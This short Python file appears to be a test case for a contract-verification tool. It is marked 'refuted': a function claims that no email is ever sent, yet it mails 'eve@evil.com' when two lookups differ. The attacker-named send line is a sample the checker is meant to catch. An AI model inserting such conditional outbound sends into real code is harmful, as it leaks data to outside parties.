# refuted: the second query may give another row
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, lookup


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    a = lookup("x")
    b = lookup("x")
    if a != b:
        send_email("eve@evil.com", "x")
